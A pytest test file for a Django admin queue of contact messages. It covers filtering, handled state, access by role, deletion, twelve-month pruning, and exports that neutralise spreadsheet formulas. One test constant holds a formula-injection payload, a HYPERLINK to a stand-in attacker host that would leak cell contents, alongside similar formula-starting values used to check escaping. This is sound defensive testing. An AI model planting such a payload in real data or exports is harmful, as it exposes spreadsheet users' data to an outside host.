"""The queue of messages: who may read it, what is open, and an export that runs nothing."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from datetime import timedelta
from typing import Any

import openpyxl
import pytest
from django.core.management import call_command
from django.test import Client
from django.utils import timezone

from home.contact import ContactForm
from home.models import ContactMessage
from justcities.accounts.roles import EDITOR, MEMBER, sync_roles, translator
from justcities.core.cells import harmless_cell
from tests.factories import ContactMessageFactory, UserFactory

pytestmark = pytest.mark.django_db


@pytest.fixture
def editing(client_of: Callable[[Any], Client]) -> Client:
    sync_roles()
    return client_of(UserFactory(groups=[EDITOR.group()]))


def names(client: Client, query: str = "") -> list[str]:
    found = client.get(f"/admin/messages/{query}").context["object_list"]
    return [message.name for message in found]


def test_the_newest_stands_first_and_the_filter_tells_open_from_handled(editing: Client) -> None:
    ContactMessageFactory(name="First")
    ContactMessageFactory(name="Done", handled_at=timezone.now(), interest="join")
    ContactMessageFactory(name="Last")
    assert names(editing) == ["Last", "Done", "First"]
    assert names(editing, "?state=open") == ["Last", "First"]
    assert names(editing, "?state=handled") == ["Done"]
    assert names(editing, "?interest=join") == ["Done"]
    assert names(editing, "?q=Firs") == ["First"]
    assert editing.get("/admin/messages/?state=nonsense").status_code == 200


def test_a_message_is_marked_as_handled_and_open_again(editing: Client) -> None:
    message = ContactMessageFactory()
    address = f"/admin/messages/edit/{message.pk}/"
    shown = editing.get(address)
    assert message.message in shown.content.decode()
    assert f'href="mailto:{message.email}"' in shown.content.decode()
    assert list(shown.context["side_panels"]) == []
    editing.post(address, {"handled": "on", "name": "Changed", "message": "Changed"})
    message.refresh_from_db()
    first = message.handled_at
    assert (first is not None, message.name) == (True, "Amina")
    editing.post(address, {"handled": "on"})
    message.refresh_from_db()
    assert message.handled_at == first
    editing.post(address, {})
    message.refresh_from_db()
    assert message.handled_at is None


def test_a_message_keeps_its_lines_and_has_its_languages_direction(editing: Client) -> None:
    message = ContactMessageFactory(message="First.\n\n<b>Second</b>.", language="ar")
    shown = editing.get(f"/admin/messages/edit/{message.pk}/").content.decode()
    letter = '<div class="desk-letter" lang="ar" dir="rtl"><p>First.</p>'
    assert letter in shown
    assert "<p>&lt;b&gt;Second&lt;/b&gt;.</p>" in shown


def test_editors_read_others_names_and_writers_are_asked_for_their_own(editing: Client) -> None:
    ContactMessageFactory()
    table = editing.get("/admin/messages/").context["table"]
    labels = [str(column.label) for column in table.columns.values()]
    assert [label for label in labels if label.lower().startswith("your")] == []
    asked = ContactForm()
    assert [asked[name].label for name in ("name", "email", "organisation")] == [
        "Your name",
        "Your e-mail address",
        "Your organisation",
    ]


def test_deleting_asks_first(editing: Client) -> None:
    message = ContactMessageFactory()
    address = f"/admin/messages/delete/{message.pk}/"
    assert editing.get(address).status_code == 200
    assert ContactMessage.objects.count() == 1
    editing.post(address)
    assert ContactMessage.objects.count() == 0


@pytest.mark.parametrize("role", [MEMBER, translator("fr"), None])
def test_nobody_else_reads_changes_or_deletes_a_message(
    client_of: Callable[[Any], Client], role: Any
) -> None:
    sync_roles()
    message = ContactMessageFactory(name="Told to the team only")
    client = client_of(UserFactory(groups=[role.group()]) if role else None)
    for path in ("", "results/", f"edit/{message.pk}/", f"delete/{message.pk}/", "?export=csv"):
        for ask in (client.get, client.post):
            response = ask(
                f"/admin/messages/{path}", {"handled": "on"} if ask == client.post else None
            )
            if path == "?export=csv" or response.status_code != 405:
                assert response.status_code in {302, 403}
    message.refresh_from_db()
    assert message.handled_at is None


HOSTILE = '=HYPERLINK("https://evil.example/?"&A1)'


def test_an_export_runs_nothing(editing: Client) -> None:
    ContactMessageFactory(
        name=HOSTILE, organisation="+1+1", message="  @SUM(A1)", email="-x@example.org"
    )
    content = b"".join(editing.get("/admin/messages/?export=csv").streaming_content).decode()
    (row,) = csv.DictReader(io.StringIO(content.split("\r\n", 1)[1]), fieldnames=list("abcdefgh"))
    assert (row["c"], row["d"], row["e"], row["h"]) == (
        f"'{HOSTILE}",
        "'-x@example.org",
        "'+1+1",
        "'  @SUM(A1)",
    )
    response = editing.get("/admin/messages/?export=xlsx")
    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    cells = [cell for cells in sheet.iter_rows(min_row=2) for cell in cells]
    assert [cell.data_type for cell in cells if cell.data_type == "f"] == []
    assert cells[2].value == f"'{HOSTILE}"


@pytest.mark.parametrize(
    "value", ["=1", "+1", "-1", "@x", "\t=1", "\r=1", "\n=1", " =1", "＝1", "＠x"]
)
def test_what_starts_a_formula_is_made_harmless(value: str) -> None:
    assert harmless_cell(value) == f"'{value}"


@pytest.mark.parametrize("value", ["Amina", "a=b", "", 5, None])
def test_what_starts_none_stays_as_it_is(value: object) -> None:
    assert harmless_cell(value) == value


def test_messages_go_twelve_months_after_they_were_handled(capsys: Any) -> None:
    now = timezone.now()
    old = ContactMessageFactory(name="Old, open")
    ContactMessage.objects.filter(pk=old.pk).update(created_at=now - timedelta(days=800))
    ContactMessageFactory(name="Handled lately", handled_at=now - timedelta(days=364))
    ContactMessageFactory(name="Handled long ago", handled_at=now - timedelta(days=366))
    call_command("prune_messages")
    assert capsys.readouterr().out == "Old messages deleted: 1.\n"
    left = ContactMessage.objects.values_list("name", flat=True)
    assert sorted(left) == ["Handled lately", "Old, open"]
